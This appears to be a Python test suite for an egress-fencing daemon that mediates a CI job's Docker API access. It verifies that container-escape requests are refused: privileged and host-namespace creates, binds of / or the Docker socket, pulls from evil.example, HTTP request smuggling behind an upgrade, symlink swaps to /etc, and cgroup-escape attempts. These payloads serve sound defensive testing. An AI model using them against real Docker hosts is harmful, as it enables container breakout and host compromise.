"""A job's own Docker endpoint (daemon/docker/docker.c, docker_check.c): a job
whose policy says "docker" runs containers through the host's dockerd, and
they live in the job's cgroup, judged by its policy, recorded in its spans;
every request that would let a container out is refused with a Docker API
error and an egress.tamper span. Real parts: Debian's dockerd in the fence
namespace (dockerd.py), its docker CLI inside the job, an image imported
offline. Judged by the test hosts' own logs and by what dockerd holds."""
import json
import os
import socket
import subprocess
import time

import dockerd as DK
import world as W
from harness import test, pol, check, eq, PY

# a container's IPv6 address is tentative for a moment after its start
WAIT_DAD = ("for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do ip -6 addr | grep -q tentative "
            "|| break; sleep 0.2; done; ")
ALLOW = ["198.18.1.1:443", "ok.test:80", "[2001:db8:1::1]:443"]


def docker_daemon(ctx, allow=ALLOW, docker=True, **extra):
    dk = DK.get(ctx.world)
    d = ctx.daemon(start=False, policies={"t": pol(allow=allow, docker=docker, **extra),
                                          "nod": pol(allow=allow)})
    d.set_config({"docker": {"socket": dk.sock}, "dns": {"upstream": [W.DNS_V4]}})
    d.start()
    return d, dk


def job_run(ctx, d, argv, policy="t", timeout=120, job=None, cwd=None, stdin=None):
    job = job or ctx.job_id()
    a = d.run_argv(policy, argv, job)
    env = d._env({"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
    p = subprocess.run(ctx.world.fence_argv(a), capture_output=True, text=True,
                       timeout=timeout, env=env, input=stdin,
                       stdin=None if stdin is not None else subprocess.DEVNULL, cwd=cwd)
    return p, job


@test(timeout=300)
def test_docker_container_fenced_by_the_job_policy(ctx):
    """A job that is a container (docs/ci.md's recipe for container jobs:
    `egressctl run -- docker run -v $PWD:$PWD -w $PWD IMAGE SCRIPT`, with
    "docker"): the container's processes are in the job's cgroup
    (/proc/self/cgroup inside it), reach the allowed address and name (DNS
    through the job's proxy) and not an unlisted one (the test hosts'
    logs), write the job's working directory, have no CAP_NET_RAW (its
    policy has no sockets.raw/packet), and the decision spans name the
    container; the job span lists it."""
    d, dk = docker_daemon(ctx)
    work = ctx.path("checkout")
    os.makedirs(work)
    script = (WAIT_DAD + "echo built > out.txt; cat /proc/self/cgroup; "
              "(echo x; sleep 1) | nc -w 3 198.18.1.1 443 >/dev/null && echo OK443; "
              "echo x | nc -w 3 198.18.2.4 80 >/dev/null && echo LEAK80; "
              "ip -6 addr >&2; echo x | nc -w 3 ok.test 80 >/dev/null; echo byname=$?; "
              "nslookup secret.test >/dev/null 2>&1; echo ns=$?; grep '^CapBnd' /proc/self/status")
    p, job = job_run(ctx, d, [DK.DOCKER, "run", "--rm", "--name", "c-" + ctx.job_id()[-8:],
                              "-v", "%s:%s" % (work, work), "-w", work,
                              DK.IMAGE, "sh", "-c", script], cwd=work)
    check(p.returncode == 0, "docker run in the job failed (%d): %s %s" % (
        p.returncode, p.stdout[-800:], p.stderr[-1500:]))
    check("OK443" in p.stdout, "the allowed address was not reached: %r" % p.stdout)
    with open(os.path.join(work, "out.txt")) as f:
        eq(f.read(), "built\n", "what the container wrote in the job's working directory")
    check(ctx.reached("198.18.1.1", 443), "the test host did not see the allowed connection")
    check(not ctx.reached("198.18.2.4", 80), "the unlisted host saw a connection: LEAK")
    check("LEAK80" not in p.stdout, "the container says it reached 198.18.2.4:80")
    check(ctx.reached("198.18.1.1", 80) or ctx.reached("2001:db8:1::1", 80), "ok.test:80 (by name, DNS through the proxy) was "
          "not reached: %r %r; spans %r" % (p.stdout[-300:], p.stderr[-700:], [s.describe()[:400] for s in d.spans()
                                                         if s.get("egress.job.id") == job and s.name != "egress.packet"]))
    # no CAP_NET_RAW where the job's policy has no sockets.raw/packet: a packet
    # socket's frames would pass every socket hook (docker_check_body.c)
    bnd = [l.split()[1] for l in p.stdout.splitlines() if l.startswith("CapBnd:")]
    check(bnd and not int(bnd[0], 16) & (1 << 13),
          "the container's bounding set has CAP_NET_RAW: %r" % bnd)
    cg = [l for l in p.stdout.splitlines() if l.startswith("0::")]
    check(cg and cg[0].startswith("0::/") and "job-" + job in cg[0],
          "the container's cgroup is not under the job's: %r" % cg)
    dec = d.wait_spans("egress.connect", job, where={"network.peer.address": "198.18.2.4"},
                       timeout=10)[0]
    eq(dec.get("egress.decision"), "deny", "decision of the unlisted connection")
    # a process still there when egressd reads its record (the container is
    # found from /proc/PID/cgroup: one that has exited by then, as the
    # refused nc above may have, is named by nothing)
    dec = d.wait_spans("egress.connect", job, where={"network.peer.address": "198.18.1.1",
                                                     "network.peer.port": 443}, timeout=10)[0]
    eq(dec.get("egress.decision"), "allow", "decision of the allowed connection")
    check(len(dec.get("container.id", "")) == 64 and dec.get("container.image.name") == DK.IMAGE
          and dec.get("container.name"), "the decision span does not name the container: %r"
          % dec.describe())
    js = d.job_span(job, timeout=20)
    check(DK.IMAGE in (js.get("egress.job.containers") or ""),
          "the job span does not list the container: %r" % js.describe())
    dns = [s for s in d.spans() if s.name == "egress.dns" and s.get("egress.job.id") == job]
    check(any(s.get("dns.question.name") in ("ok.test", "ok.test.") for s in dns),
          "no egress.dns span of ok.test from the container: %r" % [s.describe() for s in dns][:4])


# Inside the job: each request to the endpoint, its status and message.
ASK = r"""
import json, socket, sys
reqs = json.loads(sys.argv[1])
out = []
for method, path, body in reqs:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect("/run/docker.sock")
    if isinstance(body, str):
        data = body.encode()
    elif body is None:
        data = b""
    else:
        data = json.dumps(body).encode()
    head = "%s %s HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n" \
           "Content-Length: %d\r\n\r\n" % (method, path, len(data))
    s.sendall(head.encode() + data)
    got = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        got += b
    s.close()
    text = got.decode(errors="replace")
    status = int(text.split(" ", 2)[1]) if text.startswith("HTTP/1.") else 0
    body = text.split("\r\n\r\n", 1)[1] if "\r\n\r\n" in text else ""
    try:
        msg = json.loads(body).get("message", "")
    except Exception:
        msg = body[:300]
    out.append([status, msg])
print(json.dumps(out), flush=True)
"""

IMG = DK.IMAGE


def escapes(outsider, outnet="outnet", outvol="outvol"):
    """(request, what the refusal must say)."""
    def create(hc=None, name=None, **top):
        b = {"Image": IMG, "Cmd": ["true"]}
        if hc is not None:
            b["HostConfig"] = hc
        b.update(top)
        return ("POST", "/v1.41/containers/create" + ("?name=" + name if name else ""), b)
    return [
        (create({"Privileged": True}), "privileged"),
        (create({"NetworkMode": "host"}), "host's network"),
        (create({"PidMode": "host"}), "PID namespace"),
        (create({"IpcMode": "host"}), "IPC namespace"),
        (create({"UTSMode": "host"}), "UTS namespace"),
        (create({"UsernsMode": "host"}), "user namespace"),
        (create({"CgroupnsMode": "host"}), "cgroup namespace"),
        (create({"Devices": [{"PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem",
                              "CgroupPermissions": "rwm"}]}), "devices"),
        (create({"DeviceCgroupRules": ["c *:* rwm"]}), "device cgroup rules"),
        (create({"CapAdd": ["SYS_ADMIN"]}), "capability SYS_ADMIN"),
        (create({"CapAdd": ["ALL"]}), "capability ALL"),
        (create({"Capabilities": ["CAP_SYS_ADMIN"]}), "capability set"),
        (create({"CgroupParent": "/"}), "cgroup parent"),
        (create({"SecurityOpt": ["seccomp=unconfined"]}), "security option"),
        (create({"SecurityOpt": ["apparmor=unconfined"]}), "security option"),
        (create({"SecurityOpt": ["systempaths=unconfined"]}), "security option"),
        (create({"MaskedPaths": []}), "unmasked"),
        (create({"ReadonlyPaths": []}), "writable /proc"),
        (create({"Binds": ["/etc:/host-etc"]}), "bind mount of /etc"),
        (create({"Binds": ["/:/host"]}), "bind mount of /"),
        (create({"Binds": ["/run/docker.sock:/var/run/docker.sock"]}), "bind mount of"),
        (create({"Mounts": [{"Type": "bind", "Source": "/root", "Target": "/r"}]}),
         "bind mount of /root"),
        (create({"Mounts": [{"Type": "volume", "Target": "/v", "VolumeOptions": {
            "DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind",
                                                          "device": "/etc"}}}}]}),
         "driver options"),
        (create({"LogConfig": {"Type": "syslog", "Config": {
            "syslog-address": "udp://198.18.2.4:514"}}}), "log driver"),
        (create({"Runtime": "runsc"}), "runtime"),
        (create({"Sysctls": {}, "PublishAllPorts": True}), "every port"),
        (create({"PortBindings": {"80/tcp": [{"HostIp": "198.18.0.1", "HostPort": "8080"}]}}),
         "publishing a port on 198.18.0.1"),
        (create({"NetworkMode": "container:" + outsider}), "only a container of this job"),
        (create({"PidMode": "container:" + outsider}), "only a container of this job"),
        (create({"VolumesFrom": [outsider]}), "only containers of this job"),
        (create(Labels={"io.egress-fence.job": "another-job"}), "egress-fence's own"),
        # how Go reads JSON: any case, the last of repeated keys, Unicode folding
        (("POST", "/v1.41/containers/create",
          '{"Image": "%s", "hostconfig": {"privileged": true}}' % IMG), "privileged"),
        (("POST", "/v1.41/containers/create",
          '{"Image": "%s", "HostConfig": {"Privileged": false, "Privileged": true}}' % IMG),
         "given twice"),
        (("POST", "/v1.41/containers/create",
          '{"Image": "%s", "HostConfig": {"Network\u212aode": "host"}}' % IMG),
         "not plain ASCII"),
        # a start's own HostConfig (API before 1.24), an old version
        (("POST", "/v1.41/containers/%s/start" % outsider, None), "not one of this job's"),
        (("POST", "/v1.23/containers/create", {"Image": IMG}), "API version"),
        (("POST", "/v1.41/containers/%s/exec" % outsider, {"Cmd": ["id"]}),
         "not one of this job's"),
        (("DELETE", "/v1.41/containers/%s?force=1" % outsider, None), "not one of this job's"),
        (("GET", "/v1.41/containers/%s/archive?path=/etc" % outsider, None),
         "not one of this job's"),
        (("POST", "/v1.41/containers/prune", None), "prune"),
        (("POST", "/v1.41/images/create?fromImage=evil.example%2Fleak&tag=x", None),
         "evil.example:443"),
        (("POST", "/v1.41/images/create?fromSrc=http%3A%2F%2F198.18.2.4%2Fx", None),
         "from a URL"),
        (("POST", "/v1.41/images/%s/push" % "198.18.2.4:5000/x", None), "198.18.2.4:5000"),
        (("POST", "/v1.41/build?t=x", ""), "docker build"),
        (("POST", "/v1.41/session", None), "docker build"),
        (("POST", "/v1.41/auth", {"serveraddress": "https://evil.example/v2/",
                                  "username": "u", "password": "p"}), "evil.example:443"),
        (("POST", "/v1.41/volumes/create", {"Name": "hostetc", "DriverOpts": {
            "type": "none", "o": "bind", "device": "/etc"}}), "driver options"),
        (("POST", "/v1.41/networks/create", {"Name": "mv", "Driver": "macvlan"}),
         "network driver macvlan"),
        (("POST", "/v1.41/plugins/pull?remote=evil.example/p", None), "plugins"),
        (("POST", "/v1.41/swarm/init", {}), "swarm"),
        (("GET", "/v1.41/containers/..%2F..%2Fx/json", None), "segment"),
        # found by review: Go decodes query keys; a form body is read as the query
        (("POST", "/v1.41/images/create?from%49mage=evil.example%2Fleak&tag=x", None),
         "evil.example:443"),
        (("POST", "/v1.41/commit?contain%65r=" + outsider + "&container=x", None),
         "given twice"),
        (("POST", "/v1.41/images/create?fromSrc=-", None), "docker import"),
        # image names are every job's: no tag, load, rmi, commit to a name
        (("POST", "/v1.41/images/%s/tag?repo=busybox&tag=latest" % IMG, None), "docker tag"),
        (("POST", "/v1.41/images/load", ""), "docker load"),
        (("DELETE", "/v1.41/images/%s" % IMG, None), "docker rmi"),
        # another's network or volume; a subnet of the job's choosing
        (create({"NetworkMode": outnet}), "not this job's"),
        (create({"Binds": [outvol + ":/v"]}), "not this job's"),
        (create({"Mounts": [{"Type": "volume", "Source": outvol, "Target": "/v"}]}),
         "not this job's"),
        (("POST", "/v1.41/networks/%s/connect" % outnet, {"Container": "x"}), "not this job's"),
        (("POST", "/v1.41/networks/create", {"Name": "hj", "IPAM": {"Config": [
            {"Subnet": "198.18.0.48/29"}]}}), "IPAM"),
        (create(NetworkingConfig={"EndpointsConfig": {"bridge": {"NetworkID": "host"}}}),
         "NetworkID"),
        # HostConfig's settings at the top level (the old form), a host-wide OOM shield
        (create(VolumeDriver="evilplug"), "outside HostConfig"),
        (create(Privileged=True), "outside HostConfig"),
        (create({"OomScoreAdj": -1000}), "OomScoreAdj"),
    ]


@test(timeout=300)
def test_docker_escape_requests_refused_and_recorded(ctx):
    """Every request that would let a container out of the fence, or reach
    what is not the job's, gets a Docker API error naming the reason and an
    egress.tamper span (tamper_docker) naming the request; dockerd holds no
    container made by them, and a container outside the job is untouched."""
    d, dk = docker_daemon(ctx)
    tag = ctx.job_id()[-6:]
    st, doc = dk.api("POST", "/containers/create?name=outsider-" + tag,
                     {"Image": IMG, "Cmd": ["sleep", "300"]})
    check(st == 201, "the outsider container was not made: %r" % doc)
    outsider = doc["Id"]
    st, doc = dk.api("POST", "/networks/create", {"Name": "outnet-" + tag})
    check(st == 201, "the outsider network was not made: %r" % doc)
    st, doc = dk.api("POST", "/volumes/create", {"Name": "outvol-" + tag})
    check(st == 201, "the outsider volume was not made: %r" % doc)
    before = {c["Id"] for c in dk.containers()}
    try:
        cases = escapes(outsider[:12], "outnet-" + tag, "outvol-" + tag)
        p, job = job_run(ctx, d, [PY, "-c", ASK, json.dumps([c[0] for c in cases])])
        check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
        got = json.loads(p.stdout.strip().splitlines()[-1])
        bad = []
        for (req, want), (status, msg) in zip(cases, got):
            if status not in (400, 403, 404) or want.lower() not in msg.lower():
                bad.append("%s %s -> %d %r (want %r)" % (req[0], req[1], status, msg, want))
        check(not bad, "requests not refused as they should be:\n  " + "\n  ".join(bad))
        eq({c["Id"] for c in dk.containers()}, before, "containers dockerd holds after the "
           "refused requests")
        st, o = dk.api("GET", "/containers/%s/json" % outsider)
        check(st == 200, "the outsider container is gone")
        recs = d.wait_spans("egress.tamper", job, n=len(cases) - 1, timeout=15,
                            where={"egress.reason": "tamper_docker"})
        r0 = [s for s in recs if "privileged" in (s.get("egress.tamper.docker.refusal") or "")]
        check(r0 and r0[0].get("egress.tamper.docker.request", "").startswith(
            "POST /v1.41/containers/create") and r0[0].get("egress.tamper.via") ==
            "docker_endpoint", "the tamper span does not name the request: %r" % (
                [s.describe() for s in recs][:2],))
        st, _ = dk.api("GET", "/networks/outnet-" + tag)
        check(st == 200, "the outsider network is gone")
    finally:
        dk.api("DELETE", "/containers/%s?force=1" % outsider)
        dk.api("DELETE", "/networks/outnet-" + tag)
        dk.api("DELETE", "/volumes/outvol-" + tag)


SMUGGLE = r'''
import json, socket, sys
def req(method, path, body=None, extra=b"", keep=False):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect("/run/docker.sock")
    data = json.dumps(body).encode() if body is not None else b""
    s.sendall(("%s %s HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n"
               "Content-Length: %d\r\n" % (method, path, len(data))).encode() +
              (b"Upgrade: tcp\r\nConnection: Upgrade\r\n" if keep else b"") + b"\r\n" +
              data + extra)
    got = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        got += b
    s.close()
    return got.decode(errors="replace")
def body(t):
    return json.loads(t.split("\r\n\r\n", 1)[1])
name = sys.argv[1]
cid = body(req("POST", "/v1.41/containers/create", {"Image": sys.argv[2], "Cmd": ["sleep", "60"]}))["Id"]
req("POST", "/v1.41/containers/%s/start" % cid)
eid = body(req("POST", "/v1.41/containers/%s/exec" % cid, {"Cmd": ["true"]}))["Id"]
inner = json.dumps({"Image": sys.argv[2], "HostConfig": {"Privileged": True, "NetworkMode": "host"}})
smuggled = ("POST /v1.41/containers/create?name=%s HTTP/1.1\r\nHost: d\r\n"
            "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (
                name, len(inner), inner)).encode()
out = req("POST", "/v1.41/exec/%s/start" % eid, {"Detach": True, "Tty": False},
          extra=smuggled, keep=True)
print(json.dumps(out[:300]))
req("DELETE", "/v1.41/containers/%s?force=1" % cid)
'''


@test(timeout=300)
def test_docker_no_request_behind_a_hijack(ctx):
    """An exec started detached, on a connection asking for an upgrade,
    with a second request behind it: dockerd answers 200 and would read on,
    but the endpoint passes the job's further bytes only after a 101; the
    privileged host-network container of the second request is never made."""
    d, dk = docker_daemon(ctx)
    name = "smuggled-" + ctx.job_id()[-6:]
    p, job = job_run(ctx, d, [PY, "-c", SMUGGLE, name, IMG])
    check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
    time.sleep(1)
    names = [n for c in dk.containers() for n in c.get("Names", [])]
    check("/" + name not in names, "dockerd made the smuggled container: ESCAPE (%r)" % names)


@test(timeout=300)
def test_docker_streams_binds_and_cleanup(ctx):
    """The docker CLI inside a job, unchanged: `docker run -i` with stdin,
    `docker exec`, `docker logs -f`, a bind of the job's working directory;
    `docker ps -a` lists the job's containers only. A bind source swapped for
    a symbolic link to /etc after the create still binds what was judged.
    The container the job leaves running is removed once the job's own
    processes are gone, and the job then ends."""
    d, dk = docker_daemon(ctx)
    work = ctx.path("work")
    os.makedirs(os.path.join(work, "a"))
    with open(os.path.join(work, "hello.txt"), "w") as f:
        f.write("hello from the workdir\n")
    mark = "ef-pwned-" + ctx.job_id()[-6:]
    st, doc = dk.api("POST", "/containers/create?name=outsider-" + ctx.job_id()[-6:],
                     {"Image": IMG, "Cmd": ["true"]})
    check(st == 201, "the outsider container was not made: %r" % doc)
    outsider = doc["Id"]
    name = "bg-" + ctx.job_id()[-6:]
    D = DK.DOCKER
    script = """set -e
echo "host=$DOCKER_HOST"
echo stdin-line | %(D)s run -i --rm %(I)s cat
%(D)s run -d --name %(N)s %(I)s sh -c 'while :; do echo tick; sleep 0.2; done' >/dev/null
%(D)s exec %(N)s echo inside-exec
timeout 3 %(D)s logs -f %(N)s | head -n 2
%(D)s run --rm -v "$PWD:/w" %(I)s cat /w/hello.txt
echo ps: $(%(D)s ps -a --format '{{.Names}}' | tr '\\n' ' ')
%(D)s create --name race-%(N)s -v "$PWD/a:/x" %(I)s sh -c 'touch /x/%(M)s; ls /x' >/dev/null
mv a a2 && ln -s /etc a
%(D)s start -a race-%(N)s
""" % {"D": D, "I": IMG, "N": name, "M": mark}
    try:
        p, job = job_run(ctx, d, ["sh", "-c", script], cwd=work, timeout=180)
        out = p.stdout
        check(p.returncode == 0, "the job failed (%d): %s / %s" % (p.returncode, out[-600:],
                                                                  p.stderr[-1200:]))
        for want in ("host=unix:///run/docker.sock", "stdin-line", "inside-exec", "tick", "hello from the workdir"):
            check(want in out, "%r missing from the job's output: %r" % (want, out[-800:]))
        ps = [l for l in out.splitlines() if l.startswith("ps:")][0].split()[1:]
        check(name in ps and not any(n.startswith("outsider-") for n in ps),
              "docker ps -a in the job lists %r" % ps)
        check(not os.path.exists("/etc/" + mark), "the container wrote /etc/%s through a "
              "link swapped in after its create: ESCAPE" % mark)
        check(os.path.exists(os.path.join(work, "a2", mark)), "the judged directory did not "
              "get the container's file: %r" % os.listdir(work))
        deadline = time.time() + 30
        while time.time() < deadline and dk.containers(label=job):
            time.sleep(0.5)
        eq([c["Names"] for c in dk.containers(label=job)], [], "the job's containers after "
           "it ended")
        d.job_span(job, timeout=20)
        st, _ = dk.api("GET", "/containers/%s/json" % outsider)
        check(st == 200, "the container outside the job was removed")
        left = os.path.join(d.run_dir, "docker", job)
        deadline = time.time() + 10
        while time.time() < deadline and os.path.exists(left):
            time.sleep(0.2)
        check(not os.path.exists(left), "the job's bind mounts were left at %s" % left)
    finally:
        dk.api("DELETE", "/containers/%s?force=1" % outsider)
        try:
            os.unlink("/etc/" + mark)
        except OSError:
            pass


RAW = r"""
import json, socket, sys
out = []
for raw in json.load(open(sys.argv[1])):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect("/run/docker.sock")
    got = b""
    try:
        s.sendall(raw.encode("latin-1"))
        s.shutdown(socket.SHUT_WR)
        while True:
            b = s.recv(65536)
            if not b:
                break
            got += b
    except OSError as e:
        got = ("error %s" % e).encode()
    s.close()
    out.append(got.decode("latin-1")[:400])
print(json.dumps(out), flush=True)
"""


@test(timeout=300)
def test_docker_endpoint_bad_input(ctx):
    """Malformed HTTP, a huge head, malformed and oversized chunked bodies,
    truncated JSON, two framings at once, a second request hidden behind the
    first: each gets an error or nothing, dockerd holds no new container
    (the hidden request never reached it), and the endpoint then serves a
    good request as before."""
    d, dk = docker_daemon(ctx)
    tag = ctx.job_id()[-6:]
    body = json.dumps({"Image": IMG, "Cmd": ["true"]})
    smuggled = "POST /v1.41/containers/create?name=smuggled-%s HTTP/1.1\r\nHost: d\r\n" \
               "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (
                   tag, len(body), body)
    cases = [
        ("garbage\r\n\r\n", "400"),
        ("GET /_ping\r\n\r\n", "400"),
        ("GET /_ping HTTP/1.1\nHost: x\n\n", ""),  # bare LF: never a full head; closed
        ("GET /_ping HTTP/1.1\r\nX: " + "a" * 70000 + "\r\n\r\n", "400"),
        ("GET /_ping HTTP/1.1\r\nBad Header: x\r\n\r\n", "400"),
        ("GET /_ping HTTP/1.1\r\nX: a\r\n b\r\n\r\n", "400"),
        ("POST /v1.41/containers/create?name=te-%s HTTP/1.1\r\nContent-Length: 5\r\n"
         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % tag, "400"),
        ("POST /v1.41/containers/create?name=cl-%s HTTP/1.1\r\nContent-Length: 5\r\n"
         "Content-Length: 6\r\n\r\nxxxxxx" % tag, "400"),
        ("POST /v1.41/containers/create?name=ch-%s HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
         "\r\nzz\r\nxx\r\n0\r\n\r\n" % tag, "400"),
        ("POST /v1.41/containers/create?name=tr-%s HTTP/1.1\r\nContent-Length: 40\r\n\r\n"
         '{"Image": "%s", "Cmd": [' % (tag, IMG), "400"),
        ("POST /v1.41/containers/create?name=js-%s HTTP/1.1\r\nContent-Length: 9\r\n\r\n"
         '{"Image":' % tag, "400"),
        ("POST /v1.41/containers/create?name=tl-%s HTTP/1.1\r\nContent-Length: %d\r\n\r\n%s"
         "garbage" % (tag, len(body) + 7, body), "400"),
        ("POST /v1.41/containers/create?name=big-%s HTTP/1.1\r\nTransfer-Encoding: chunked"
         "\r\n\r\n%s" % (tag, ("100000\r\n" + "a" * 0x100000 + "\r\n") * 2 + "0\r\n\r\n"), "400"),
        # a good ping whose connection carries a second request behind it
        ("GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n" + smuggled, "200"),
        ("POST /v1.41/containers/%s/start HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}" %
         ("x" * 12), "404"),
    ]
    path = ctx.path("raw.json")
    with open(path, "w") as f:
        json.dump([c[0] for c in cases], f)
    p, job = job_run(ctx, d, [PY, "-c", RAW, path])
    check(p.returncode == 0, "the job failed: %s" % p.stderr[-800:])
    got = json.loads(p.stdout.strip().splitlines()[-1])
    bad = []
    for (raw, want), g in zip(cases, got):
        if want and not g.startswith("HTTP/1.1 " + want):
            bad.append("%r -> %r (want %s)" % (raw[:70], g[:120], want))
        if not want and g.startswith("HTTP/1.1 2"):
            bad.append("%r -> %r (want no success)" % (raw[:70], g[:120]))
    check(not bad, "bad input not answered as it should be:\n  " + "\n  ".join(bad))
    names = [n for c in dk.containers() for n in c.get("Names", [])]
    check(not any(tag in n for n in names), "dockerd holds a container the bad input made: "
          "%r" % names)
    check(d.proc.poll() is None, "egressd died")
    p, _ = job_run(ctx, d, [DK.DOCKER, "run", "--rm", IMG, "echo", "still-serving"])
    check("still-serving" in p.stdout, "the endpoint no longer serves: %s" % p.stderr[-500:])



# The host's files a container job's `egressctl run` needs: the control
# socket (read-only), the binary and its libraries (the image has none)
def self_fenced(d, dk, name, script, extra=("--read-only",), user=None):
    a = ["run", "--rm", "--name", name,
         "-v", "%s:/run/egress-fence/control.sock:ro" % d.sock,
         "-v", "%s:/bin/egressctl:ro" % d.egressctl,
         "-v", "/usr/lib:/lib:ro", "-v", "/usr/lib64:/lib64:ro"] + list(extra)
    if user:
        a += ["--user", user]
    return subprocess.run(dk.cli(a + [DK.IMAGE, "sh", "-c", script]), capture_output=True,
                          text=True, timeout=120, stdin=subprocess.DEVNULL)


@test(timeout=300)
def test_docker_job_container_fences_itself(ctx):
    """A job that is a container the runner made (GitLab's Docker executor,
    GitHub's `container:`), fenced from inside (docs/ci.md): egressd's
    control socket bound in read-only, the script runs `egressctl run`.
    The fenced command reaches what the policy allows (TCP, IPv6, a name
    through the job's DNS proxy) and not an unlisted host (TCP, UDP), even
    after trying to move itself out of the job's cgroup; the test hosts'
    logs judge. Its decisions name the container, the job span lists it.
    The same as an unprivileged user. With the host's dockerd socket bound
    into the container, or the fence's run directory bound read-write, or
    a writable container and a policy without "host_writes", `egressctl
    run` refuses to run the command."""
    d, dk = docker_daemon(ctx, docker=False)
    job = ctx.job_id()
    name = "cj-" + job[-8:]
    fenced = (WAIT_DAD + "cat /proc/self/cgroup; "
              "(echo x; sleep 1) | nc -w 3 198.18.1.1 443 >/dev/null && echo OK443; "
              "(echo x; sleep 1) | nc -w 3 2001:db8:1::1 443 >/dev/null && echo OK6; "
              "echo x | nc -w 3 ok.test 80 >/dev/null && echo BYNAME; "
              "echo x | nc -w 3 198.18.2.4 80 >/dev/null && echo LEAK80; "
              "busybox timeout 2 busybox tftp -g -r x -l /dev/null 198.18.1.5 9999; "
              # out of the job's cgroup, by any cgroup filesystem in sight
              "for f in /sys/fs/cgroup/unified/cgroup.procs /sys/fs/cgroup/cgroup.procs "
              "/sys/fs/cgroup/*/docker/*/cgroup.procs; do echo $$ > $f; done 2>/dev/null; "
              "mount -o remount,rw /sys/fs/cgroup 2>/dev/null && echo REMOUNTED; "
              "cat /proc/1/environ >/dev/null 2>&1 && echo TRACED; "
              "echo x | nc -w 3 198.18.2.4 8080 >/dev/null && echo LEAK8080; true")
    script = ("egressctl --socket /run/egress-fence/control.sock run --policy t --job-id %s "
              "-- sh -c '%s'; echo rc=$?" % (job, fenced))
    p = self_fenced(d, dk, name, script)
    out = p.stdout
    check("rc=0" in out and "OK443" in out, "the fenced command in the container did not run "
          "or reach the allowed address: %r %r" % (out[-800:], p.stderr[-1500:]))
    for word in ("OK6", "BYNAME"):
        check(word in out, "%s missing from the container job's output: %r %r" % (
            word, out[-800:], p.stderr[-800:]))
    for word in ("LEAK80", "LEAK8080", "REMOUNTED", "TRACED"):
        check(word not in out, "%s in the container job's output: %r" % (word, out[-800:]))
    cg = [l for l in out.splitlines() if l.startswith("0::")]
    check(cg and "job-" + job in cg[0], "the fenced command is not in the job's cgroup: %r" % cg)
    check(ctx.reached("198.18.1.1", 443) and ctx.reached("2001:db8:1::1", 443),
          "the test hosts did not see the allowed connections")
    check(ctx.reached("198.18.1.1", 80) or ctx.reached("2001:db8:1::1", 80),
          "ok.test:80 (by name) was not reached")
    for host, port, proto in (("198.18.2.4", 80, "tcp"), ("198.18.2.4", 8080, "tcp"),
                              ("198.18.1.5", 9999, "udp")):
        check(not ctx.reached(host, port, proto), "LEAK: the test host saw %s %s:%d" % (
            proto, host, port))
    dec = d.wait_spans("egress.connect", job, where={"network.peer.address": "198.18.2.4",
                                                     "network.peer.port": 8080}, timeout=10)[0]
    eq(dec.get("egress.decision"), "deny", "decision after the attempts to leave the cgroup")
    eq(dec.get("container.name"), name, "the container's name on the decision span")
    eq(dec.get("container.image.name"), DK.IMAGE, "the container's image on the decision span")
    check(len(dec.get("container.id", "")) == 64, "no container.id: %r" % dec.describe())
    js = d.job_span(job, timeout=20)
    check(name in (js.get("egress.job.containers") or ""),
          "the job span does not list the container: %r" % js.describe())
    eq(js.get("egress.same_user_isolation"), "container", "the job span's isolation")
    udp = [x for x in d.find(None, job, where={"network.peer.address": "198.18.1.5"})
           if x.get("network.transport") == "udp"]
    check(udp and all(x.get("egress.decision") == "deny" for x in udp),
          "the TFTP datagram to an unlisted host: %r" % [x.describe() for x in udp][:3])

    # an unprivileged user in the container: fenced the same
    job2 = ctx.job_id()
    p = self_fenced(d, dk, name + "u", "egressctl --socket /run/egress-fence/control.sock run "
                    "--policy t --job-id %s -- sh -c 'id -u; (echo x; sleep 1) | nc -w 3 "
                    "198.18.1.1 443 >/dev/null && echo OK443; echo x | nc -w 3 198.18.2.4 22 "
                    ">/dev/null && echo LEAK22; true'; echo rc=$?" % job2, user="65534")
    check("rc=0" in p.stdout and "OK443" in p.stdout and "65534" in p.stdout,
          "the unprivileged container job did not run: %r %r" % (p.stdout[-500:],
                                                                  p.stderr[-800:]))
    check("LEAK22" not in p.stdout and not ctx.reached("198.18.2.4", 22),
          "LEAK: the unprivileged container job reached 198.18.2.4:22")

    # a writable container: its root job's writes would be run by the
    # runner's later, unfenced steps; refused unless the policy says
    # "host_writes" (then the job runs)
    d.policy("hw", allow=ALLOW, host_writes=True)
    for policy, ran in (("t", False), ("hw", True)):
        job3 = ctx.job_id()
        p = self_fenced(d, dk, name + "w", "egressctl --socket /run/egress-fence/control.sock "
                        "run --policy %s --job-id %s -- sh -c 'echo RAN'; echo rc=$?" % (
                            policy, job3), extra=())
        if ran:
            check("RAN" in p.stdout, "a writable container with a host_writes policy did not "
                  "run: %r %r" % (p.stdout[-300:], p.stderr[-600:]))
        else:
            check("RAN" not in p.stdout and "rc=125" in p.stdout and
                  "root filesystem is writable" in p.stderr,
                  "a writable container was not refused: %r %r" % (p.stdout[-300:],
                                                                   p.stderr[-600:]))

    # what the runner must not bind into the container
    for what, extra, words in (
            ("the host's dockerd socket", ["-v", "%s:/var/run/docker.sock" % dk.sock],
             "container runtime socket"),
            ("the directory above it", ["-v", "%s:/hostrun" % os.path.dirname(dk.sock)],
             "container runtime socket"),
            ("egressd's run directory, read-write", ["-v", "%s:/efrun" % d.run_dir],
             "bound read-write")):
        job3 = ctx.job_id()
        p = self_fenced(d, dk, name + "x", "egressctl --socket /run/egress-fence/control.sock "
                        "run --policy t --job-id %s -- sh -c 'echo RAN'; echo rc=$?" % job3,
